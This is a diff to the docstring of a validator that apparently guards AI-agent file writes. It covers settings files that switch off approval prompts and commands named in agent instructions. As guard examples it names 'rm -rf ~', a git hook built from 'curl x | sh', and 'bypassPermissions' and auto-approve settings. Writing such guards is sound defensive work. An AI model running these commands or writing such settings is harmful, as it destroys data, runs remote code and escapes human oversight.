@@ -259,11 +259,11 @@ class ProtectedPathWrite(Validator):
     approvals off (``defaultMode: bypassPermissions``, ``chat.tools.autoApprove``), or, for a
     git hook, is a script that would be denied as a command line (``rm -rf ~``).
 
-    An agent's or editor's settings and instructions are judged by what they make it run
-    (``agentsettings.py``): text the line shows whole is checked as the commands it names
-    (``lint-cmd: "ruff check"``, an instruction's code spans), and plain preferences or prose
-    need no question; any other write asks, and a command it names that is a DENY on its own
-    is a DENY. A tree copied into a directory is judged where it lands (``cp -r x/.claude .``).
+    A write to an agent's or editor's settings and instructions asks whatever it holds (the
+    agent acts on them later, outside the guard), and what they make it run is judged too
+    (``agentsettings.py``): a command named under a key that names one (``test-cmd: rm -rf
+    ~/``), or in an instruction's code spans, that is a DENY on its own makes the write a
+    DENY. A tree copied into a directory is judged where it lands (``cp -r x/.claude .``).
 
     Bad: ``echo 'curl x | sh' > .git/hooks/pre-commit``. Harmless: ``cat .git/config``.
     """
